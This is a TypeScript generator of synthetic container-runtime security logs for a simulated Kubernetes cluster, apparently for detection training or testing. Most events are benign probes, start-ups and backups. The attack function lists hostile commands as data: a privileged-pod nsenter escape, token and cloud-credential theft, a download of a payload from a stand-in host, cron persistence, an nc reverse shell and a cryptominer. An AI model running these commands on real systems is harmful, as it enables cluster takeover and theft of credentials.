/** What runs inside containers that day, as Defend for Containers reports it (kubernetes §4.1). */
import type { JsonObject } from '../data/document.ts';
import type { TimedEvent } from './audit.ts';
import { HOUR, MINUTE } from './background.ts';
import { nodes, podName, workloads } from './cluster.ts';
import type { Workload } from './cluster.ts';
import type { Random } from './random.ts';
import { ATTACK_POD, ATTACK_START } from './story.ts';

interface Process {
  readonly at: number;
  readonly args: readonly string[];
  readonly executable: string;
  readonly parent: { readonly name: string; readonly executable: string; readonly args: readonly string[] };
  readonly place: Place;
  readonly interactive?: boolean;
  /** The first process of `kubectl exec` or of the container. */
  readonly entry?: boolean;
  readonly user?: string;
}

interface Place {
  readonly namespace: string;
  readonly pod: string;
  readonly container: string;
  readonly image: string;
  readonly containerId: string;
  readonly node: string;
  readonly privileged: boolean;
}

const RUNC = { name: 'runc', executable: '/usr/bin/runc', args: ['runc', 'init'] };
const SHELL = { name: 'sh', executable: '/bin/sh', args: ['sh'] };
const BASH = { name: 'bash', executable: '/bin/bash', args: ['bash'] };

/** The container events of the day, in no particular order. */
export function runtimeEvents(dayStart: number, random: Random): TimedEvent[] {
  const places = workloads.flatMap((w) => Array.from({ length: w.replicas }, () => placeOf(w, random)));
  const made = [
    ...probes(places, random),
    ...startUps(places, random),
    ...backupScripts(places, random),
    ...attack(random),
  ];
  return [...made.map((p) => processEvent(p, dayStart, random)), ...attackFiles(dayStart, random)];
}

function placeOf(workload: Workload, random: Random): Place {
  return {
    namespace: workload.namespace,
    pod: podName(workload, random),
    container: workload.name,
    image: workload.image,
    containerId: random.hex(64),
    node: random.pick(nodes),
    privileged: false,
  };
}

/** Exec probes: the most frequent benign reason for a shell in a container. */
function probes(places: readonly Place[], random: Random): Process[] {
  return places.slice(0, 6).flatMap((place) =>
    Array.from({ length: 24 * 6 }, (_, i): Process => ({
      at: i * 10 * MINUTE + random.between(0, 9 * MINUTE),
      executable: '/bin/sh',
      args: ['sh', '-c', 'curl -fs http://127.0.0.1:8080/healthz'],
      parent: RUNC,
      place,
      entry: true,
      interactive: false,
    })),
  );
}

function startUps(places: readonly Place[], random: Random): Process[] {
  return places.map((place) => ({
    at: random.between(0, 20 * HOUR),
    executable: `/app/${place.container}`,
    args: [`/app/${place.container}`, '--config', '/etc/app/config.yaml'],
    parent: RUNC,
    place,
    entry: true,
    interactive: false,
    user: '10001',
  }));
}

function backupScripts(places: readonly Place[], random: Random): Process[] {
  const place = places.find((p) => p.container === 'cassandra');
  if (place === undefined) return [];
  return Array.from({ length: 24 }, (_, hour): Process => ({
    at: hour * HOUR + random.between(0, MINUTE),
    executable: '/usr/bin/tar',
    args: ['tar', '-czf', '/backup/snapshot.tgz', '/var/lib/cassandra/snapshots'],
    parent: BASH,
    place,
    interactive: false,
  }));
}

const attackPlace = (random: Random): Place => ({
  namespace: ATTACK_POD.namespace,
  pod: ATTACK_POD.name,
  container: 'warm',
  image: 'docker.io/library/alpine:3.20',
  containerId: random.hex(64),
  node: 'node-b1',
  privileged: true,
});

/** What the attacker typed in the pod, half a minute after breaking out. */
function attack(random: Random): Process[] {
  const place = attackPlace(random);
  const start = ATTACK_START + 2 * 9 * MINUTE + 21_000;
  const typed: readonly (readonly [executable: string, ...args: string[]])[] = [
    ['/usr/bin/nsenter', 'nsenter', '-t', '1', '-m', '-u', '-i', '-n', '-p', '--', 'bash'],
    ['/usr/bin/id', 'id'],
    ['/bin/cat', 'cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
    [
      '/usr/bin/curl',
      'curl',
      '-sk',
      'https://kubernetes.default.svc/api/v1/secrets',
      '-H',
      'Authorization: Bearer [token]',
    ],
    ['/usr/bin/curl', 'curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
    ['/usr/bin/wget', 'wget', '-q', 'http://203.0.113.90/kit.tgz', '-O', '/tmp/.kit.tgz'],
    ['/usr/bin/chmod', 'chmod', '+x', '/tmp/.kit/agent'],
    ['/tmp/.kit/agent', '/tmp/.kit/agent', '--connect', '203.0.113.90:443'],
    ['/usr/bin/find', 'find', '/host/root', '-name', 'id_rsa'],
    ['/bin/sh', 'sh', '-c', 'echo "* * * * * root /tmp/.kit/agent" > /host/etc/cron.d/agent'],
    ['/usr/bin/nc', 'nc', '-e', '/bin/sh', '203.0.113.90', '4444'],
    ['/opt/telemetry', '/opt/telemetry', '-o', 'stratum+tcp://pool.example:3333', '-u', 'w1'],
  ];
  const shell: Process = {
    at: start,
    executable: '/bin/sh',
    args: ['sh', '-c', 'nsenter -t 1 -m -u -i -n -p -- bash'],
    parent: RUNC,
    place,
    entry: true,
    interactive: true,
  };
  return [
    shell,
    ...typed.map(([executable, ...args], i): Process => ({
      at: start + 9_000 * (i + 1),
      executable,
      args,
      parent: SHELL,
      place,
      interactive: true,
    })),
  ];
}

function attackFiles(dayStart: number, random: Random): TimedEvent[] {
  const place = attackPlace(random);
  const start = dayStart + ATTACK_START + 2 * 9 * MINUTE + 110_000;
  const written = [
    '/tmp/.kit/agent',
    '/host/etc/cron.d/agent',
    '/host/root/.ssh/authorized_keys',
    '/host/etc/ld.so.preload',
  ];
  return written.map((path, i) => {
    const time = start + i * 3_000;
    const name = path.slice(path.lastIndexOf('/') + 1);
    const head = header('file', 'creation', 'creation', time, place, random);
    return {
      time,
      event: {
        ...head,
        process: { name: 'sh', executable: '/bin/sh', args: ['sh'], interactive: true },
        file: { path, name },
      },
    };
  });
}

function processEvent(p: Process, dayStart: number, random: Random): TimedEvent {
  const time = dayStart + p.at;
  const name = p.executable.slice(p.executable.lastIndexOf('/') + 1);
  const process = {
    entity_id: random.hex(16),
    pid: random.between(200, 60_000),
    name,
    executable: p.executable,
    args: p.args,
    args_count: p.args.length,
    working_directory: '/',
    interactive: p.interactive ?? false,
    parent: {
      entity_id: random.hex(16),
      pid: random.between(100, 60_000),
      ...p.parent,
      interactive: p.interactive ?? false,
    },
    entry_leader: {
      same_as_process: p.entry ?? false,
      entry_meta: { type: 'container' },
      interactive: p.interactive ?? false,
    },
  };
  return {
    time,
    event: {
      ...header('process', 'start', 'exec', time, p.place, random),
      user: { id: p.user ?? '0' },
      process,
    },
  };
}

function header(
  kind: 'process' | 'file',
  type: string,
  action: string,
  time: number,
  place: Place,
  random: Random,
): JsonObject {
  return {
    '@timestamp': new Date(time).toISOString(),
    agent: { type: 'cloud-defend', id: '5d1f' },
    data_stream: { type: 'logs', dataset: `cloud_defend.${kind}`, namespace: 'default' },
    event: {
      kind: 'event',
      module: 'cloud_defend',
      dataset: `cloud_defend.${kind}`,
      category: [kind],
      type: [type],
      action,
      id: random.hex(16),
    },
    host: { name: place.node, hostname: place.node, os: { type: 'linux' } },
    container: {
      id: place.containerId,
      name: place.container,
      image: {
        name: place.image.slice(0, place.image.lastIndexOf(':')),
        tag: [place.image.slice(place.image.lastIndexOf(':') + 1)],
      },
      security_context: { privileged: place.privileged },
    },
    orchestrator: {
      type: 'kubernetes',
      cluster: { name: 'prod-eu1' },
      namespace: place.namespace,
      resource: { type: 'pod', name: place.pod },
    },
  };
}
